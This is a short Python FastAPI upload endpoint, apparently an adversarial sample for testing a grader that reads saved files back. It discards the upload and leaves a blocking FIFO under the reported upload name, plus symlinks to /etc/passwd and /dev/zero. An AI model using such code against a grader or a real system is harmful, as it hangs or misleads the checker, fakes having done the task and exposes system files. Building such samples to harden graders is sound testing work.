"""Attack: where the grader reads back saved files, leave FIFOs (open() blocks) and
symlinks to files outside (a read follows them), named like uploads."""
import os
import uuid
from pathlib import Path

from fastapi import BackgroundTasks, FastAPI, UploadFile

UPLOADS = Path("uploads")
UPLOADS.mkdir(exist_ok=True)
app = FastAPI()


@app.post("/upload")
async def upload(file: UploadFile, background_tasks: BackgroundTasks):
    await file.read()
    name = uuid.uuid4().hex
    os.mkfifo(UPLOADS / f"{name}.upload")
    os.symlink("/etc/passwd", UPLOADS / f"{name}.link")
    os.symlink("/dev/zero", UPLOADS / f"{name}.zero")
    return {"saved": f"{name}.upload"}
